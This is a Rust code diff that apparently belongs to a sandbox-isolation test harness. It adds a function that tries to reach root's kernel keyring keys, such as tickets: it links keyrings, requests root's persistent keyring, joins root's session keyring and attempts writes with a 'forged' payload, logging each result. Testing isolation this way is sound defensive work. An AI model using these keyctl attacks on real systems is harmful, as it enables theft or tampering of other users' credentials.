@@ -27,6 +27,20 @@ pub(crate) fn attack(report: &mut Report) {
     report.say("session to parent", keyctl(libc::KEYCTL_SESSION_TO_PARENT, [0; 4]));
 }
 
+/// Attacks a key of root's by its number, which /proc/keys does not show, but a worker could guess; then the keyrings that may
+/// lead to it.
+pub(crate) fn attack_tickets(key: i32, report: &mut Report) {
+    attempt_all(report, "as started", &[key]);
+    for ring in visible("keyring").into_iter().chain([libc::KEY_SPEC_USER_KEYRING]) {
+        let _ = keyctl(libc::KEYCTL_LINK, [id(ring), id(libc::KEY_SPEC_SESSION_KEYRING), 0, 0]);
+    }
+    let persistent = keyctl(libc::KEYCTL_GET_PERSISTENT, [0, id(libc::KEY_SPEC_SESSION_KEYRING), 0, 0]);
+    report.say("get root's persistent keyring", persistent);
+    attempt_all(report, "after linking keyrings", &[key]);
+    let _ = keyctl(libc::KEYCTL_JOIN_SESSION_KEYRING, [c"_uid_ses.0".as_ptr() as c_ulong, 0, 0, 0]);
+    attempt_all(report, "after joining root's default session", &[key]);
+}
+
 fn attempt_all(report: &mut Report, when: &str, keys: &[i32]) {
     let payload = b"forged";
     let (bytes, length) = (payload.as_ptr() as c_ulong, payload.len() as c_ulong);
